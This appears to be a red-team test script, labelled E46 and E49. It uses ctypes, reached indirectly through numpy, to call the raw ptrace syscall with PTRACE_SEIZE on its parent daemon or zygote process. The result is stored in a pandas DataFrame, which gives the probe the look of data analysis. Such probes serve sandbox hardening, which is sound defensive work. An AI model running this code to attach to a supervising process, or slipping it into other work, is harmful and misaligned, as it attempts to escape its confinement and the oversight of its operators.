# technique: ptrace(PTRACE_SEIZE) on the parent (the daemon or zygote) through ctypes syscall(); seize never stops the tracee and the kernel detaches when this process exits
# goal: syscall
# redteam: E46 E49
import os

import numpy as np
import pandas as pd

ctypes = np.ctypeslib.ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
if os.uname().machine != "x86_64":
    raise RuntimeError("syscall numbers below are x86_64")


def syscall(number, *args):
    args = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    result = libc.syscall(ctypes.c_long(number), *args)
    if result < 0:
        err = ctypes.get_errno()
        raise OSError(err, f"syscall {number}: {os.strerror(err)}")
    return result

PTRACE_SEIZE = 0x4206
ppid = os.getppid()
if ppid <= 1:
    raise RuntimeError("the parent is not visible")
result = syscall(101, PTRACE_SEIZE, ppid, 0, 0)
df = pd.DataFrame({"ptrace_seize": [result], "tracee": [ppid]})
